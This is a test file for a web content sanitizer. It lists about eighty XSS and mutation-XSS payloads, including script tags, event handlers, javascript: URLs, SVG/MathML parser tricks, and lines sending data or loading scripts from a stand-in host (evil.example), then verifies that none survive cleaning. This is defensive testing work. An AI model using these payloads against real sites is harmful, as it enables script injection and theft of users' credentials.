import { expect, test } from 'vitest';
import { CONTENT_LENGTH_MAX, cleanContent, textOfContent } from './clean-content.ts';

const file = `/files/${'0123456789abcdef'.repeat(2)}-640x480.webp`;

/** Ways to run something, by the rooms that HTML has for it; each is tried alone, nested, broken and in capitals. */
const runs = [
  '<script>alert(1)</script>',
  '<script src=https://evil.example/x.js></script>',
  '<img src=x onerror=alert(1)>',
  `<img src="${file}" onerror="alert(1)">`,
  `<img src="${file}"onload=alert(1)>`,
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img srcset="x 1x" onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=1em>x</text></a></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="https://user:secret@evil.example/">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/pages/wallet/withdraw">x</a>',
  '<a href="#/pages/wallet/withdraw">x</a>',
  '<a href="http://evil.example">x</a>',
  '<a href="blob:https://app.example/1">x</a>',
  '<a href="https://evil.example" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
  '<a href="https://evil.example" target="_top" ping="https://evil.example">x</a>',
  '<style>*{background:url(https://evil.example)}</style>',
  '<p style="position:fixed;inset:0;background:red">x</p>',
  '<p class="card" id="root" data-x="1">x</p>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=paypassword><button>Pay</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)><option>x</select>',
  '<textarea autofocus onfocus=alert(1)>x</textarea>',
  '<video src=x onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<p title="\'><img src=x onerror=alert(1)>">x</p>',
  '<table><td background="javascript:alert(1)">x</table>',
  '<td colspan="1&quot; onmouseover=&quot;alert(1)">x</td>',
  '<isindex action=j&Tab;a&Tab;vas&Tab;c&Tab;r&Tab;ipt:alert(1) type=image>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<button popovertarget=x>y</button><p popover id=x onbeforetoggle=alert(1)>z</p>',
  '<img alt="`><script>alert(1)</script>">',
  '<a href="https://x.example/`onmouseover=alert(1)`">x</a>',
  '<p>\u0000<script>alert(1)</script></p>',
  '<img src="https://evil.example/pixel.gif">',
  `<img src="${file}?x=1">`,
  '<img src="/files/../Users/Info">',
];

const dressings: [string, (html: string) => string][] = [
  ['alone', (html) => html],
  ['in a paragraph', (html) => `<p>before ${html} after</p>`],
  ['in a list and a table', (html) => `<ul><li><table><tr><td>${html}`],
  ['in capitals', (html) => html.replaceAll(/<\/?[a-z]+/g, (tag) => tag.toUpperCase())],
  ['after what is not closed', (html) => `<p><b><a href="https://x.example">${html}`],
  ['cut off', (html) => html.slice(0, -1)],
];

/** What a browser could take for more than text, links out and our own pictures. */
function findHostile(html: string): string[] {
  const found: string[] = [];
  const allowed =
    /^(p|br|h[234]|[uo]l|li|strong|b|em|i|u|s|su[bp]|blockquote|hr|code|pre|table|thead|tbody|t[rhd]|a|img|figure|figcaption)$/;
  // Any angle bracket that opens is the beginning of an allowed element with nothing but allowed attributes.
  for (const [tag] of html.matchAll(/<[^>]*>?/g)) {
    const [, name = '', rest = ''] = /^<\/?([a-z0-9]+)((?:\s+[a-z]+="[^"<>]*")*)\s*\/?>$/.exec(tag) ?? [];
    if (!allowed.test(name)) found.push(tag);
    for (const [, attribute = '', value = ''] of rest.matchAll(/([a-z]+)="([^"]*)"/g)) {
      const ok =
        (name === 'a' && attribute === 'href' && value.startsWith('https://') && !value.includes('@')) ||
        (name === 'a' && attribute === 'rel' && value === 'noopener noreferrer nofollow') ||
        (name === 'a' && attribute === 'target' && value === '_blank') ||
        (name === 'img' && attribute === 'src' && value === file) ||
        (name === 'img' && ['alt', 'width', 'height', 'loading', 'decoding'].includes(attribute)) ||
        (/^t[hd]$/.test(name) && ['colspan', 'rowspan'].includes(attribute));
      if (!ok) found.push(`${name} ${attribute}=${value}`);
    }
  }
  return found;
}

test.each(dressings)('refuses: everything that could run, load, frame, style or send, %s', (_name, dress) => {
  for (const run of runs) expect([run, ...findHostile(cleanContent(dress(run)))]).toEqual([run]);
});

test('behavior: the test itself sees what is hostile', () => {
  for (const html of [
    '<script>',
    '<p onclick="x">',
    '<img src="x">',
    '<a href="javascript:x">',
    '<b <i>',
    '<svg/>',
  ])
    expect(findHostile(html)).not.toEqual([]);
});

test('behavior: text, lists, tables, links out and our own pictures stay, each picture with its size', () => {
  const kept = '<h2>Care</h2><p>Wash <strong>by hand</strong>.<br /></p><ul><li>one</li></ul>';
  expect(cleanContent(kept)).toBe(kept);
  expect(cleanContent('<table><tr><td colspan="2">1</td></tr></table>')).toBe(
    '<table><tr><td colspan="2">1</td></tr></table>',
  );
  expect(cleanContent('<a href="https://example.org/a b" rel="opener">more</a>')).toBe(
    '<a href="https://example.org/a%20b" rel="noopener noreferrer nofollow" target="_blank">more</a>',
  );
  expect(cleanContent(`<img src="${file}" alt="A pot" width="9999">`)).toBe(
    `<img src="${file}" alt="A pot" width="640" height="480" loading="lazy" decoding="async" />`,
  );
});

test('property: what is clean stays as it is, and no text is endless', () => {
  for (const run of runs)
    for (const [, dress] of dressings) {
      const once = cleanContent(dress(run));
      expect(cleanContent(once)).toBe(once);
    }
  expect(cleanContent('x'.repeat(CONTENT_LENGTH_MAX * 2))).toHaveLength(CONTENT_LENGTH_MAX);
  const started = performance.now();
  expect(findHostile(cleanContent('<b>'.repeat(CONTENT_LENGTH_MAX / 3)))).toEqual([]);
  expect(performance.now() - started).toBeLessThan(2_000);
});

test('behavior: its words without markup', () => {
  expect(textOfContent('<h2>Care</h2><p>Wash &amp; dry<br>by hand</p><style>p{}</style>')).toBe(
    'Care Wash & dry by hand',
  );
  expect(textOfContent('<p>Not <b>un</b>known, <em>really</em>.</p>')).toBe('Not unknown, really.');
  // What was written as text is never read twice.
  expect(textOfContent('<p>&amp;lt;b&amp;gt;</p>')).toBe('&lt;b&gt;');
});
